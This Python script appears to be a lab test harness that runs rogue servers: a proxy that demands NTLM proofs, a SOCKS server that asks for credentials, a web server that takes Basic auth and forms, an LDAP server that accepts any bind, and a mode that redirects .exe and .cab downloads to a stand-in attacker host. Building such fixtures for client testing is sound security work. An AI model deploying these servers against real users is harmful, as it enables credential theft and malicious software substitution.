#!/usr/bin/env python3
"""Servers of an attacker for proxy and credential scenes. rogue_proxy.py PORT MODE

  http      a proxy that passes nothing on: it answers CONNECT and absolute form with a page of its own
  ntlm      the same, after it has been given an NTLM proof (407)
  rewrite   the same, and redirects *.exe and *.cab to a program of its own, and fe2.update.microsoft.com out of TLS
  socks     a SOCKS 4a and 5 server that asks version 5 for a user and password, and answers every request with an HTTP page
  web       a web server: 401 Basic for /private, a page for everything else, forms taken
  slow      an honest web server that needs a fifth of a second for its one program
  ldap      an LDAP server that accepts every bind
Runs in a lab namespace only."""
import base64, socketserver, sys, time

port, mode = int(sys.argv[1]), sys.argv[2]
PAGE = b"<html><body>Please wait.</body></html>"


def challenge():
    target = "LAB".encode("utf-16le")
    message = b"NTLMSSP\0" + (2).to_bytes(4, "little") + len(target).to_bytes(2, "little") * 2 + (56).to_bytes(4, "little")
    message += 0xA2890205.to_bytes(4, "little") + b"\x11\x22\x33\x44\x55\x66\x77\x88" + bytes(16) + b"\x0a\0\x7c\x4f\0\0\0\x0f" + target
    return base64.b64encode(message).decode()


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        try:
            {"socks": self.socks, "ldap": self.ldap}.get(mode, self.http)()
        except (ConnectionError, IndexError):
            pass

    def reply(self, status, headers=(), body=b""):
        lines = [f"HTTP/1.1 {status}", *headers, f"Content-Length: {len(body)}", "", ""]
        self.wfile.write("\r\n".join(lines).encode() + body)

    def http(self):
        while line := self.rfile.readline().decode("latin-1").split():
            method, target = line[0], line[1]
            fields = {}
            while (field := self.rfile.readline().decode("latin-1").strip()):
                name, _, value = field.partition(":")
                fields[name.lower()] = value.strip()
            self.rfile.read(int(fields.get("content-length", 0)))
            proof = fields.get("proxy-authorization", "")
            if mode == "slow":
                time.sleep(0.2)
                self.reply("200 OK", ["Content-Type: application/octet-stream"], b"MZ" + b"x" * 3000)
            elif mode == "ntlm" and not proof.startswith("NTLM TlRMTVNTUAAD"):
                self.reply("407 Proxy Authentication Required", ["Proxy-Authenticate: NTLM" + (" " + challenge() if proof else "")])
            elif mode == "web" and target == "/private" and "authorization" not in fields:
                self.reply("401 Unauthorized", ['WWW-Authenticate: Basic realm="files"'])
            elif mode == "rewrite" and "fe2.update.microsoft.com" in target:
                self.reply("302 Found", ["Location: http://fe2.update.microsoft.com/v6/"])
            elif mode == "rewrite" and target.endswith((".exe", ".cab")):
                self.reply("302 Found", ["Location: http://203.0.113.66/" + target.rsplit("/", 1)[1]])
            elif method == "CONNECT":
                self.wfile.write(b"HTTP/1.1 200 Connection established\r\n\r\n")
                return self.http()
            else:
                self.reply("200 OK", ["Content-Type: text/html"], PAGE)

    def socks(self):
        if self.rfile.read(1) == b"\4":
            self.rfile.read(3)
            address = self.rfile.read(4)
            self.text()
            if address[:3] == b"\0\0\0":
                self.text()
            self.wfile.write(b"\0\x5a" + bytes(6))
        else:
            self.rfile.read(self.rfile.read(1)[0])
            self.wfile.write(b"\5\2")
            self.rfile.read(1)
            self.rfile.read(self.rfile.read(1)[0])
            self.rfile.read(self.rfile.read(1)[0])
            self.wfile.write(b"\1\0")
            kind = self.rfile.read(4)[3]
            self.rfile.read(4 if kind == 1 else 16 if kind == 4 else self.rfile.read(1)[0])
            self.rfile.read(2)
            self.wfile.write(b"\5\0\0\1" + bytes(6))
        self.http()

    def text(self):
        while self.rfile.read(1)[0]:
            pass

    def ldap(self):
        while (head := self.rfile.read(2)):
            length = head[1] if head[1] < 128 else int.from_bytes(self.rfile.read(head[1] & 127), "big")
            body = self.rfile.read(length)
            number = body[: 2 + body[1]]
            operation = body[len(number)]
            if operation == 0x42:
                return
            answer = {0x60: 0x61, 0x63: 0x65}.get(operation, 0x78)
            result = number + bytes([answer, 7]) + b"\x0a\1\0\4\0\4\0"
            self.wfile.write(bytes([0x30, len(result)]) + result)


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = daemon_threads = True


Server(("", port), Handler).serve_forever()
